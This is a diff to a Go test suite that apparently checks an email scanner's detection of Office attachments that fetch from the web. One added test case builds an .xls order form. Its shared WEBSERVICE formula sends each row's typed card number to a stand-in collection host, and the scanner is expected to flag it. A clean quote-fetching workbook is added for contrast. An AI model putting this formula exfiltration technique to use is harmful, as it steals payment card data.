@@ -230,6 +230,14 @@ func officeLinkCases() []officeCase {
 			data: xlsxOf([][]string{{"Region", "Sales"}}, nil, "", connectionsPart(`<connection id="1" odcFile="\\files.example.net@SSL\DavWWWRoot\conn\Sales.odc" onlyUseConnectionFile="1" name="Sales" type="5" refreshedVersion="8" refreshOnLoad="1" background="1">`+
 				`<dbPr connection="Provider=SQLOLEDB.1;Integrated Security=SSPI;Initial Catalog=Sales;Data Source=SQL01" command="&quot;Sales&quot;" commandType="3"/></connection>`)),
 			wants: []relWant{{"heuristic", "query-file-fetch", "/xl/connections.xml"}}},
+		{name: "xls-webservice-shared-copy", about: "Excel 97-2003 workbook (.xls) whose WEBSERVICE is filled down a column as Excel saves it (a shared formula: each cell a ptgExp, the formula once in a SHRFMLA, its reference an offset, PtgRefN), each copy sending its own row's card number; the first row's is filled in, the second row's is the one the reader types",
+			action: policy.Tag, subject: "Order form", body: "Please fill in your card number in row 2.\n", ctype: "application/vnd.ms-excel", file: "order.xls",
+			data: formats.XLS(formats.XLSWorkbook{
+				Sheets: []formats.XLSSheet{{Name: "Order", Formulas: []formats.XLSFormula{
+					{Col: 1, Down: 3, Rgce: formats.Cat(formats.PtgName(1), formats.PtgStr("https://collect.example.net/c?n="), formats.PtgRefN(0, -1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}}}},
+				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+				Strings: []string{"4000-0000-0000-0002"}}),
+			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
 		{name: "xlsb-connection-odc-webdav", about: "Excel binary workbook (.xlsb) whose data connection (xl/connections.bin, BrtBeginExtConnection's stConnectionFile) was made from an .odc on a WebDAV share of an Internet host and refreshes as the workbook opens: the binary twin of xlsx-connection-odc-webdav",
 			action: policy.Tag, subject: "Sales figures", body: "The sales figures refresh as you open the workbook.\n", ctype: "application/vnd.ms-excel.sheet.binary.macroEnabled.12", file: "sales.xlsb",
 			data: formats.XLSB(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Sales"}},
@@ -330,6 +338,13 @@ func officeLinkClean() []Sample {
 		mail{from: colleague, subject: "Sales", root: multipart("mixed", text("The sales workbook; Data > Refresh All updates it.\n"),
 			attach(ctXlsx, "sales.xlsx", xlsxOf([][]string{{"Region", "Sales"}}, nil, "", connectionsPart(`<connection id="1" odcFile="C:\Users\aiko\Documents\My Data Sources\SQL01 Sales.odc" name="SQL01 Sales" type="5" refreshedVersion="8" background="1">`+
 				`<dbPr connection="Provider=SQLOLEDB.1;Integrated Security=SSPI;Initial Catalog=Sales;Data Source=SQL01" command="&quot;Sales&quot;" commandType="3"/></connection>`))))})
+	add(ok("xls-quotes-filled-down", "an Excel 97-2003 workbook from a supplier whose WEBSERVICE quote formula is filled down a column (a shared formula), each row reading the quote of the symbol its own row names"),
+		mail{from: "Accounts <accounts@supplies.example.com>", subject: "Quotes", root: multipart("mixed", text("The quotes refresh as you open the list.\n"),
+			attach("application/vnd.ms-excel", "quotes.xls", formats.XLS(formats.XLSWorkbook{
+				Sheets: []formats.XLSSheet{{Name: "Quotes", Formulas: []formats.XLSFormula{
+					{Col: 1, Down: 3, Rgce: formats.Cat(formats.PtgName(1), formats.PtgStr("https://quotes.example.org/q?s="), formats.PtgRefN(0, -1), formats.PtgConcat, formats.PtgFuncVar(2, 0xFF, false))}}}},
+				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
+				Strings: []string{"MSFT", "AAPL", "GOOG"}})))})
 	add(ok("xlsb-connection-my-data-sources", "a colleague's binary workbook (.xlsb) whose data connection was made from an .odc in her My Data Sources folder, its Access database on the file server"),
 		mail{from: colleague, subject: "Sales", root: multipart("mixed", text("The sales workbook; Data > Refresh All updates it.\n"),
 			attach("application/vnd.ms-excel.sheet.binary.macroEnabled.12", "sales.xlsb", formats.XLSB(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Sales"}},
